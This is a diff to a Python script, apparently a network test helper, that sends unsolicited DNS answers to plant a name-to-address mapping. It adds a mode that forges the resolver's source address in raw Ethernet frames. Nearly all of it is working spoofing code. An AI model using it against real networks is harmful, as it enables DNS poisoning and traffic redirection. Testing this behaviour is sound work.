@@ -1,21 +1,50 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0
-"""Send one unsolicited DNS answer from UDP port 53: "NAME A ADDR", to
-the client at TARGET:PORT, as an off-path host would to plant a mapping.
+"""Send one DNS answer "NAME A ADDR" from UDP port 53 to TARGET:PORT.
 
-usage: dns_spoof.py TARGET PORT NAME ADDR"""
+Without SOURCE: from this host, as an off-path host would to plant a
+mapping. With SOURCE IFACE MAC: forged, from SOURCE (the resolver's
+address), as an Ethernet frame out of IFACE to MAC (the gateway), as a
+client behind the gateway would to answer its own query.
+
+usage: dns_spoof.py TARGET PORT NAME ADDR [SOURCE IFACE MAC]"""
 import socket
 import struct
 import sys
 
+from raw_tcp import csum
 
-def main():
-    target, port, name, addr = sys.argv[1:]
+
+def answer(name, addr):
     msg = struct.pack("!HHHHHH", 0x4242, 0x8180, 1, 1, 0, 0)
     for label in name.split("."):
         msg += bytes([len(label)]) + label.encode()
     msg += b"\0" + struct.pack("!HH", 1, 1)
-    msg += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
+    return msg + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
+
+
+def forged_frame(src, dst, dport, payload, iface, mac):
+    udp = struct.pack("!HHHH", 53, dport, 8 + len(payload), 0) + payload
+    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(src), socket.inet_aton(dst),
+                         0, 17, len(udp))
+    udp = udp[:6] + struct.pack("!H", csum(pseudo + udp) or 0xffff) + udp[8:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4242, 0, 64, 17,
+                     0, socket.inet_aton(src), socket.inet_aton(dst))
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    with open("/sys/class/net/%s/address" % iface) as f:
+        own = bytes.fromhex(f.read().strip().replace(":", ""))
+    return bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00" + ip + udp
+
+
+def main():
+    target, port, name, addr = sys.argv[1:5]
+    msg = answer(name, addr)
+    if len(sys.argv) > 5:
+        src, iface, mac = sys.argv[5:8]
+        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
+            s.bind((iface, 0))
+            s.send(forged_frame(src, target, int(port), msg, iface, mac))
+        return
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         s.bind(("0.0.0.0", 53))
